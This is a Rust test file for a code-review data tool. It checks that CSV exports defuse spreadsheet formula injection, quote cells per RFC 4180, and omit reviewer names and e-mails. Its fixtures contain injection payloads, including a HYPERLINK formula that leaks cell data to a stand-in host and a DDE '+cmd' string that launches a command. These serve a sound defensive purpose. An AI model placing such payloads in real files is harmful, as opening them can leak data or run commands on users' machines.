//! Exports that are safe to open (issue 15): CSV meant for spreadsheets never starts a
//! cell with a formula trigger, `--csv-raw` keeps the stored text, `--csv-bom` writes a
//! byte-order mark, quoting follows RFC 4180 (checked by reading the files back with the
//! `csv` crate), and no report or export carries a name or e-mail (SPEC §1.7).

mod common;

use std::path::PathBuf;
use std::process::{Command, Output};

struct Scratch {
    dir: PathBuf,
}

impl Scratch {
    fn new(name: &str) -> Self {
        let dir = std::env::temp_dir().join(format!("sphragis-exports-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        Self { dir }
    }

    fn file(&self, name: &str, text: &str) -> PathBuf {
        let path = self.dir.join(name);
        std::fs::write(&path, text).unwrap();
        path
    }

    fn run(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_sphragis"))
            .arg("--db")
            .arg(self.dir.join("t.duckdb"))
            .args(args)
            .current_dir(&self.dir)
            .output()
            .unwrap()
    }

    fn ok(&self, args: &[&str]) -> Vec<u8> {
        let out = self.run(args);
        assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        out.stdout
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// Every field of a CSV text, header included, as the `csv` crate reads it.
fn fields(csv_text: &[u8]) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(csv_text);
    r.records().map(|rec| rec.unwrap().iter().map(str::to_string).collect()).collect()
}

/// The spreadsheet-safety property of a CSV text: no field begins with `=`, `+`, `-`,
/// `@`, tab or CR unless it is a plain number (a spreadsheet reads it as that number).
fn assert_safe(name: &str, csv_text: &[u8]) {
    for (line, record) in fields(csv_text).iter().enumerate() {
        for field in record {
            let risky = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!risky || field.parse::<f64>().is_ok_and(f64::is_finite), "{name} record {line}: {field:?}");
        }
    }
}

const ORGS: &str = r#"{"orgs": {"evil": {"service_accounts": ["@bot"],
  "windows": [{"name": "train", "start": "2020-01-01", "end": "2030-01-01", "training": true}],
  "halves": {"a": ["=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")"], "b": ["+cmd|' /C calc'!A0"]}}}}"#;

/// Three examples whose id, project, path, hunk, target and comment are formula text.
fn hostile_examples() -> String {
    let row = |id: &str, project: &str, path: &str, comment: &str| {
        serde_json::json!({
            "example_id": id, "org": "evil", "project": project, "change": 1, "patch_set": 1,
            "file_path": path, "hunk": format!("\t=1+1\n{path}"), "target": format!("-2+3\n{path}"), "created_at": "2023-05-02T09:14:00Z",
            "comments": [{"comment_id": format!("c-{id}"), "author_id": "-7", "message": comment,
                          "created_at": "2023-05-02T09:14:00Z"}]
        })
        .to_string()
    };
    [
        row(
            "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")",
            "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")",
            "@SUM(A1).py",
            "=1+1, \"quoted\"\nsecond line",
        ),
        row("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-x.rs", "@SUM(1)"),
        row("\rcr", "+cmd|' /C calc'!A0", "\tt.c", "-3"),
    ]
    .join("\n")
        + "\n"
}

fn hostile_db(name: &str) -> Scratch {
    let s = Scratch::new(name);
    s.file("orgs.json", ORGS);
    s.file("examples.jsonl", &hostile_examples());
    s.ok(&["load", "orgs", "orgs.json"]);
    s.ok(&["load", "examples", "examples.jsonl"]);
    s.ok(&["refine", "--version", "v1"]);
    s.ok(&["split", "--version", "v1", "--org", "evil"]);
    s
}

#[test]
fn csv_export_neutralises_formula_cells() {
    let s = hostile_db("formula");
    // every report as files, a query, and the examples of a split
    s.ok(&["report", "all", "--format", "csv", "--out", "out"]);
    let mut outputs: Vec<(String, Vec<u8>)> = std::fs::read_dir(s.dir.join("out"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "csv"))
        .map(|p| (p.display().to_string(), std::fs::read(&p).unwrap()))
        .collect();
    assert!(outputs.len() > 20, "{} CSV files", outputs.len());
    let query = "select example_id, project, file_path, hunk, target from review_examples order by example_id";
    outputs.push(("sql".into(), s.ok(&["sql", query, "--format", "csv"])));
    outputs.push((
        "comments".into(),
        s.ok(&["sql", "select message, author_id from review_comments order by 1", "--format", "csv"]),
    ));
    outputs.push((
        "examples".into(),
        s.ok(&["examples", "--version", "v1", "--org", "evil", "--split", "train", "--format", "csv"]),
    ));
    outputs.push(("halves".into(), s.ok(&["report", "suffix-mix", "--format", "csv"])));
    for (name, text) in &outputs {
        assert_safe(name, text);
    }
    // the hostile values are there, prefixed with one quote and otherwise unchanged
    let rows = fields(&outputs.iter().find(|(n, _)| n == "sql").unwrap().1);
    assert_eq!(rows[0], ["example_id", "project", "file_path", "hunk", "target"]);
    assert_eq!(
        rows[1],
        ["'\rcr", "'+cmd|' /C calc'!A0", "'\tt.c", "'\t=1+1\n\tt.c", "'-2+3\n\tt.c"],
        "a CR-led id, quoted and kept whole"
    );
    assert_eq!(rows[2][0], "'+cmd|' /C calc'!A0");
    assert_eq!(
        rows[3][..3],
        [
            "'=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")",
            "'=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")",
            "'@SUM(A1).py"
        ]
    );
    let comments = fields(&outputs.iter().find(|(n, _)| n == "comments").unwrap().1);
    // a plain number stays a number (the comment "-3", the author id "-7")
    assert_eq!(comments[1..], [["-3", "-7"], ["'=1+1, \"quoted\"\nsecond line", "-7"], ["'@SUM(1)", "-7"]]);
    let examples = fields(&outputs.iter().find(|(n, _)| n == "examples").unwrap().1);
    let id_column = examples[0].iter().position(|c| c == "example_id").expect("examples has an example_id column");
    let ids: Vec<&str> = examples[1..].iter().map(|r| r[id_column].as_str()).collect();
    assert_eq!(ids, ["'\rcr", "'+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")"]);
}

#[test]
fn csv_raw_keeps_cells_and_bom_is_written() {
    let s = hostile_db("raw");
    let query = "select example_id, project from review_examples order by example_id";
    let raw = s.ok(&["sql", query, "--format", "csv", "--csv-raw"]);
    let rows = fields(&raw);
    assert_eq!(rows[1], ["\rcr", "+cmd|' /C calc'!A0"]);
    assert_eq!(rows[3][0], "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")");
    let bom = s.ok(&["sql", query, "--format", "csv", "--csv-bom"]);
    assert_eq!(bom[..3], [0xef, 0xbb, 0xbf]);
    assert_eq!(fields(&bom[3..]), fields(&s.ok(&["sql", query, "--format", "csv"])));
    s.ok(&["report", "all", "--format", "csv", "--csv-bom", "--out", "bom"]);
    let removals = std::fs::read(s.dir.join("bom/refine_removals_v2.csv")).unwrap();
    assert!(removals.starts_with(b"\xef\xbb\xbfversion,"), "{}", String::from_utf8_lossy(&removals));
    // options that would do nothing are usage errors
    let out = s.run(&["sql", query, "--format", "json", "--csv-raw"]);
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--format csv only"));
}

#[test]
fn csv_quotes_newlines_and_quotes_per_rfc4180() {
    let s = Scratch::new("rfc4180");
    s.ok(&["init"]);
    // every awkward cell: separators, quotes, CR, LF, CRLF, a lone quote, unicode, empty
    let values = ["a,b", "say \"hi\"", "line1\nline2", "cr\rhere", "crlf\r\nend", "\"", "ünï ✓", "", " lead space"];
    let literal = |v: &str| format!("'{}'", v.replace('\'', "''"));
    let sql = values
        .iter()
        .enumerate()
        .map(|(i, v)| format!("select {i} as i, {} as v", literal(v)))
        .collect::<Vec<_>>()
        .join(" union all ")
        + " order by i";
    let text = s.ok(&["sql", &sql, "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(text.as_slice());
    assert_eq!(reader.headers().unwrap(), vec!["i", "v"]);
    let read: Vec<(String, String)> =
        reader.records().map(|r| r.unwrap()).map(|r| (r[0].to_string(), r[1].to_string())).collect();
    let expected: Vec<(String, String)> =
        values.iter().enumerate().map(|(i, v)| (i.to_string(), v.to_string())).collect();
    assert_eq!(read, expected);
    // quoted only where RFC 4180 needs it, CRLF between records
    let text = String::from_utf8(text).unwrap();
    assert!(text.starts_with("i,v\r\n0,\"a,b\"\r\n1,\"say \"\"hi\"\"\"\r\n2,\"line1\nline2\"\r\n"), "{text:?}");
}

/// Gerrit data whose accounts have display names and e-mails (as `gerrit query
/// --format=JSON` and the REST API write them).
const NAMED_CHANGE: &str = r#"{"project":"operations/puppet","number":416443,"url":"https://gerrit.wikimedia.org/r/416443","owner":{"name":"Zebulon Quaxworth","email":"zebulon.quaxworth@example.org","username":"zq1"},"comments":[{"timestamp":1680000000,"reviewer":{"name":"Zebulon Quaxworth","email":"zebulon.quaxworth@example.org","username":"zq1"},"message":"Uploaded patch set 1."},{"timestamp":1680000250,"reviewer":{"name":"Philippa Vandersnoot","email":"pv@mail.example.net","username":"pvs"},"message":"Patch Set 1: Code-Review-1\n\n(1 comment)"},{"timestamp":1680000300,"reviewer":{"name":"Jenkins Robotnik","email":"ci-robot@example.com","username":"jenkins-bot"},"message":"Patch Set 2: Verified+2"}],"patchSets":[{"number":1,"createdOn":1680000000,"kind":"REWORK","uploader":{"name":"Zebulon Quaxworth","email":"zebulon.quaxworth@example.org","username":"zq1"},"author":{"name":"Zebulon Quaxworth","email":"zebulon.quaxworth@example.org","username":"zq1"},"comments":[{"file":"manifests/init.pp","line":7,"reviewer":{"name":"Philippa Vandersnoot","email":"pv@mail.example.net","username":"pvs","accountId":1000042},"message":"use a constant here"}]},{"number":2,"createdOn":1680000200,"kind":"REWORK","uploader":{"name":"Zebulon Quaxworth","email":"zebulon.quaxworth@example.org","username":"zq1"}}]}
{"type":"stats","rowCount":1}
"#;

const PERSONAL: [&str; 9] = [
    "Zebulon",
    "Quaxworth",
    "zebulon.quaxworth@example.org",
    "Philippa",
    "Vandersnoot",
    "pv@mail.example.net",
    "Robotnik",
    "ci-robot@example.com",
    "@example",
];

fn assert_no_personal_data(name: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes).to_lowercase();
    for p in PERSONAL {
        assert!(!text.contains(&p.to_lowercase()), "{name} carries {p:?}");
    }
}

#[test]
fn reports_carry_no_names_or_emails() {
    let s = Scratch::new("personal");
    s.file("query.json", NAMED_CHANGE);
    s.file("orgs.json", r#"{"orgs": {"wikimedia": {"service_accounts": ["jenkins-bot"]}}}"#);
    s.ok(&["load", "orgs", "orgs.json"]);
    let loaded = s.ok(&["load", "gerrit-query", "query.json"]);
    assert_no_personal_data("load output", &loaded);
    s.ok(&["refine", "--version", "v1"]);
    // the data is there: one example, with the account kept as its username / id
    let authors = s.ok(&["sql", "select author_id from review_comments order by 1", "--format", "csv"]);
    assert!(!fields(&authors)[1..].is_empty(), "the change loaded no comments");
    for row in &fields(&authors)[1..] {
        assert!(["zq1", "pvs", "jenkins-bot", "1000042"].contains(&row[0].as_str()), "{row:?}");
    }
    let mut outputs = Vec::new();
    for format in ["table", "csv", "json"] {
        let dir = format!("out-{format}");
        s.ok(&["report", "all", "--format", format, "--out", &dir]);
        for entry in std::fs::read_dir(s.dir.join(&dir)).unwrap() {
            let path = entry.unwrap().path();
            outputs.push((path.display().to_string(), std::fs::read(&path).unwrap()));
        }
        if format != "csv" {
            outputs.push((format!("report all --format {format}"), s.ok(&["report", "all", "--format", format])));
        }
    }
    assert!(outputs.len() > 60, "{} outputs", outputs.len());
    for (name, bytes) in &outputs {
        assert_no_personal_data(name, bytes);
    }
    // and nothing of them is stored in any table of the file
    let conn = sphragis::db::open_read_only(&s.dir.join("t.duckdb")).unwrap();
    let tables = sphragis::report::query(
        &conn,
        "select table_name from information_schema.tables where table_type = 'BASE TABLE' order by 1",
        &[],
    )
    .unwrap();
    assert!(tables.rows.len() > 20, "{} tables", tables.rows.len());
    for row in &tables.rows {
        let name = sphragis::report::text(&row[0]);
        let dump = sphragis::report::query(&conn, &format!("select * from \"{name}\""), &[]).unwrap();
        assert_no_personal_data(&name, sphragis::report::render_json(&dump).unwrap().as_bytes());
    }
}

/// The public Wikimedia Gerrit pages (../shared) carry real names and e-mails: after a
/// load, no report in any format shows one of them.
#[test]
#[ignore = "needs ../shared/data/review/perceval-wikimedia"]
fn reports_carry_no_names_or_emails_from_public_gerrit_data() {
    let shared = common::shared().join("data/review/perceval-wikimedia");
    let page = shared.join("gerrit_reviews_page_1");
    let text = std::fs::read_to_string(&page).unwrap();
    // every "name" and "email" value in the page
    let re = regex::Regex::new(r#""(name|email)"\s*:\s*"([^"]{3,})""#).unwrap();
    let mut personal: Vec<String> = re.captures_iter(&text).map(|c| c[2].to_lowercase()).collect();
    personal.sort();
    personal.dedup();
    assert!(personal.len() > 5, "{} names", personal.len());
    let s = Scratch::new("personal-public");
    let out = s.run(&["load", "gerrit-query", page.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    s.ok(&["refine", "--version", "v1"]);
    let usernames = String::from_utf8(s.ok(&[
        "sql",
        "select distinct author_id from review_comments",
        "--format",
        "csv",
        "--csv-raw",
    ]))
    .unwrap();
    for format in ["table", "csv", "json"] {
        let dir = format!("out-{format}");
        s.ok(&["report", "all", "--format", format, "--out", &dir]);
        for entry in std::fs::read_dir(s.dir.join(&dir)).unwrap() {
            let path = entry.unwrap().path();
            let body = std::fs::read_to_string(&path).unwrap().to_lowercase();
            for p in &personal {
                // a display name equal to an account's username is that account id
                if usernames.to_lowercase().lines().any(|u| u == p) {
                    continue;
                }
                assert!(!body.contains(p.as_str()), "{} carries {p:?}", path.display());
            }
        }
    }
}
